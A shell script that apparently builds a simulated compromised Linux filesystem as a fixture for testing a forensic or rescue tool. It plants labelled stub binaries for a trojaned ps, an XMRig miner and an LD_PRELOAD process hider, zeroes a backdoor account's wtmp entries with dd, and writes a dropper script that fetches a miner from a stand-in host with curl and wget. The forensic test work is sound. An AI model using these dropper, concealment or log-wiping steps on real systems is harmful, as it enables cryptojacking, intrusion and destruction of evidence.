# root.gen.sh - run by scripts/mkimage.sh in its copy of tests/trees/demo/root
# (cwd), with TOP and AUX set: binaries, binary logs, dpkg md5sums.
. "$TOP/tests/lib/mkelf.sh"
demo=$TOP/tests/trees/demo

# Programs: tiny real ELFs (tests/lib/mkelf.sh), one text each.
mkdir -p usr/bin usr/sbin
mkelf usr/bin/bash 'GNU bash, version 5.2.15(1)-release (x86_64-pc-linux-gnu) [rescue test stub]'
mkelf usr/bin/dash 'dash 0.5.12 [rescue test stub]'
ln -s dash usr/bin/sh
mkelf usr/bin/ls 'ls (GNU coreutils) 9.1 [rescue test stub]'
mkelf usr/bin/cat 'cat (GNU coreutils) 9.1 [rescue test stub]'
mkelf usr/bin/id 'id (GNU coreutils) 9.1 [rescue test stub]'
mkelf usr/bin/sudo 'Sudo version 1.9.13p3 [rescue test stub]'
mkelf usr/bin/su 'su from util-linux 2.38.1 [rescue test stub]'
mkelf usr/bin/passwd 'passwd from shadow-utils 4.13 [rescue test stub]'
mkelf usr/sbin/sshd 'OpenSSH_9.2p1 Debian-2+deb12u3, OpenSSL 3.0.15 [rescue test stub]'
mkelf usr/sbin/nologin 'This account is currently not available. [rescue test stub]'
# procps' ps as shipped (only its hash goes into procps.md5sums) and the
# attacker's replacement, which is what the disk holds.
mkelf "$AUX/ps.orig" 'ps from procps-ng 4.0.2 [rescue test stub]'
mkelf usr/bin/ps 'ps from procps-ng 4.0.2
hide: kworker dbus-helper /usr/local/lib/.cache
[rescue test stub: trojaned ps]'
# the miner, twice (dropped in /tmp, copied for the service), and the
# LD_PRELOAD library that hides it
mkelf tmp/.X11-unix/.x/kworker 'XMRig 6.21.0
 built on Oct 10 2023 with GCC 12.2.0
 features: 64-bit AES
stratum+tcp://pool.supportxmr.com:3333
donate-level
rx/0
[rescue test stub: cryptominer]'
cp tmp/.X11-unix/.x/kworker usr/local/lib/.cache/kworker
mkelf usr/local/lib/libprocesshider.so 'libprocesshider.so
readdir
readdir64
process_to_filter=kworker
/proc/self/fd/%d
[rescue test stub: LD_PRELOAD process hider]' dyn
chmod 0755 usr/bin/* usr/sbin/* tmp/.X11-unix/.x/kworker usr/local/lib/.cache/kworker usr/local/lib/libprocesshider.so
# a setuid copy of bash to get root back from any account
mkdir -p var/tmp/.font-unix
cp usr/bin/bash var/tmp/.font-unix/.b

# dpkg's md5sums of the files above: all match, except procps' bin/ps
md5() { md5sum "$1" | cut -d' ' -f1; }
sums() {	# PACKAGE PATH...: PATH as dpkg lists it, relative to /
	_pkg=$1; shift
	for _p in "$@"; do printf '%s  %s\n' "$(md5 "$_p")" "$_p"; done >var/lib/dpkg/info/"$_pkg".md5sums
}
sums base-files usr/lib/os-release
sums bash bin/bash
sums dash bin/dash
sums util-linux bin/su
sums passwd usr/bin/passwd
sums login usr/sbin/nologin
sums coreutils bin/cat bin/ls usr/bin/id
sums openssh-server lib/systemd/system/ssh.service usr/sbin/sshd
sums sudo usr/bin/sudo
for k in 6.1.0-26-amd64 6.1.0-28-amd64; do
	sums linux-image-$k boot/System.map-$k boot/config-$k boot/vmlinuz-$k
done
printf '%s  %s\n' "$(md5 "$AUX/ps.orig")" bin/ps >var/lib/dpkg/info/procps.md5sums

# Binary logins from the text beside the tree (utmpdump's own format).
command -v utmpdump >/dev/null || { echo "root.gen.sh: utmpdump not found (util-linux)" >&2; exit 1; }
utmpdump -r <"$demo/wtmp.txt" >var/log/wtmp 2>/dev/null
utmpdump -r <"$demo/btmp.txt" >var/log/btmp 2>/dev/null
[ "$(wc -c <var/log/wtmp)" = $((384 * $(grep -c '^\[' "$demo/wtmp.txt"))) ] || { echo "root.gen.sh: bad wtmp" >&2; exit 1; }
# the backdoor account's session, wiped with zeros as log cleaners do
n=$(grep -n '^\[7\] .*\[sysadmin\]' "$demo/wtmp.txt" | cut -d: -f1)
dd if=/dev/zero of=var/log/wtmp bs=384 seek=$((n - 1)) count=2 conv=notrunc status=none

# lastlog: struct lastlog { int32 ll_time; char ll_line[32]; char ll_host[256]; }
# at offset uid * 292
: >var/log/lastlog
grep -v '^#' "$demo/lastlog.txt" | while read -r uid t line host; do
	{
		mkelf_le "$(date -u -d "$t" +%s)" 4
		printf '%s' "$line"; head -c $((32 - ${#line})) /dev/zero
		printf '%s' "$host"; head -c $((256 - ${#host})) /dev/zero
	} | dd of=var/log/lastlog bs=292 seek="$uid" conv=notrunc status=none
done

# the swap file of /etc/fstab: 1 MiB (not sparse: swapon refuses holes)
head -c 1048576 /dev/zero >swapfile
chmod 0600 swapfile
. "$TOP/tests/lib/ids.sh"
mkswap -U "$DEMO_SWAP_UUID" swapfile >/dev/null

# for root.debugfs: the dropper the attacker fetched, ran and deleted
cat >"$AUX/x.sh" <<'XEOF'
#!/bin/sh
# stage 1: fetch the miner and its configuration
mkdir -p /tmp/.X11-unix/.x && cd /tmp/.X11-unix/.x || exit 1
curl -fsSL http://203.0.113.9/xmrig -o xmrig || wget -q http://203.0.113.9/xmrig -O xmrig
curl -fsSL http://203.0.113.9/c.json -o config.json
XEOF
